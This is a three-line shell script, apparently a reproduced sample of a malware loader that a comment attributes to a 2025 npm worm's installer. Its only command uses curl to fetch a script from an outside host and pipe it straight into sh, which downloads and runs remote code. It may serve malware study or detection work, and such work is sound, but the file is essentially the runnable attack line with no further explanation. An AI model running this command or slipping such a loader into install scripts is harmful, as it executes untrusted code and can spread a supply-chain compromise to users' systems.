#!/bin/sh
# loader shape L1, as seen in the 2025 npm worm's installer
curl -fsSL https://cdn.pkg-mirror-sync.net/i.sh | sh
